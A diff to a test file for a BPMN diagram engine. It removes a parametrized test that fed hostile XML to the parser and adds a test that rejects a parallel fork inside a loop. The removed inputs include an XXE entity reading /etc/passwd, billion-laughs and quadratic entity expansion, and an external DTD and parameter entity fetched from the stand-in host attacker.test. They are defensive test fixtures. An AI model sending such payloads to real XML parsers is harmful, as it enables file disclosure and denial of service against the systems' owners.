@@ -3,7 +3,6 @@
 import pytest
 
 from bpmn import engine
-from bpmn.engine.parser import MAX_BYTES
 from bpmn.errors import DiagramRejected, Problem
 from tests.bpmn.engine.drawing import (
     HEAD,
@@ -51,61 +50,6 @@ def test_same_files_are_compiled_once_whatever_their_order() -> None:
 
 def test_diagram_tells_which_operations_it_calls() -> None:
     assert "publish_notice" in engine.compile_diagram(PERMIT).operations
-
-
-ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
-BILLION = (
-    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
-    + "".join(
-        f'<!ENTITY {name} "&{before};&{before};&{before};&{before};&{before};&{before};">'
-        for before, name in zip("abcdefgh", "bcdefghi", strict=True)
-    )
-    + "]>"
-)
-QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>'
-
-
-def _with_doctype(doctype: str, text: str) -> bytes:
-    head, body = GOOD.decode().split("?>", 1)
-    named = body.replace('name="work"', f'name="{text}"', 1)
-    return f"{head}?>{doctype}{named}".encode()
-
-
-@pytest.mark.parametrize(
-    "data",
-    [
-        _with_doctype(ENTITY, "x"),
-        _with_doctype(ENTITY, "&e;"),
-        _with_doctype(BILLION, "&i;"),
-        _with_doctype(QUADRATIC, "&a;" * 5_000),
-        _with_doctype('<!DOCTYPE x SYSTEM "http://attacker.test/x.dtd">', "x"),
-        _with_doctype('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.test/x">%p;]>', "x"),
-        GOOD + b" " * MAX_BYTES,
-        b"",
-        b"not xml",
-        b"PK\x03\x04",
-        GOOD[:-20],
-        b"<a>" * 5_000 + b"</a>" * 5_000,
-    ],
-    ids=[
-        "doctype",
-        "external entity",
-        "billion laughs",
-        "quadratic",
-        "external dtd",
-        "parameter entity",
-        "too large",
-        "empty",
-        "text",
-        "zip",
-        "cut off",
-        "deep",
-    ],
-)
-def test_hostile_or_broken_xml_is_refused(data: bytes) -> None:
-    problems = refuse({"diagram.bpmn": data})
-
-    assert all(problem.file == "diagram.bpmn" for problem in problems)
 
 
 @pytest.mark.parametrize("tag", ["inclusiveGateway", "complexGateway", "eventBasedGateway"])
@@ -258,6 +202,20 @@ def test_everything_wrong_is_told_at_once() -> None:
     elements = {problem.element for problem in problems}
     assert {"bad", "late", "choose_to_a", "choose_to_end", "routing_t", "routing_in"} <= elements
     assert {problem.file for problem in problems} == {"diagram.bpmn", "routing.dmn"}
+
+
+@pytest.mark.parametrize("way_back", ["decided > again", "late > again"])
+def test_fork_inside_a_loop_is_refused(way_back: str) -> None:
+    body = start() + gateway("again") + gateway("fork", "parallel") + user("a") + user("b")
+    body += gateway("join", "parallel") + user("decide") + gateway("decided") + end()
+    body += boundary("late", "decide", timer("working_days(5)"))
+    body += flows("start > again > fork > a > join > decide > decided", "fork > b > join")
+    condition = "" if way_back.startswith("late") else ' : decision == "return"'
+    body += flows(way_back + condition, 'decided > end : decision == "grant"')
+
+    problems = refuse({"diagram.bpmn": bpmn("case", body)})
+
+    assert {problem.element for problem in problems} == {"fork", "join"}
 
 
 def test_operation_may_bear_the_name_of_its_task() -> None:
